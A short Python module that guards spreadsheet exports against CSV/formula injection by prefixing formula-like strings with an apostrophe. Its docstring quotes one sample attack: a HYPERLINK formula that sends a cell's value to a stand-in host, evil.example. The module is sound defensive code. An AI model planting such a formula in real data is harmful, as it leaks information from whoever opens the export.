"""Cells written to exported spreadsheets never start a formula (no Django import).

A text such as `=HYPERLINK("http://evil.example/?id="&C2,"查看详情")` typed into a free-text field
would otherwise run as a formula in whoever opens the export (CSV/formula injection, OWASP).
Strings starting with = + - @ or a tab / carriage return / line feed are written with a leading
apostrophe, which spreadsheet programs show as text; openpyxl then stores them as strings.
Every openpyxl writer in the project passes its values through `safe_cell` / `safe_row`.
"""

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """The value as it may be written to a cell: numbers, dates and None unchanged, a string
    that a spreadsheet would read as a formula prefixed with an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
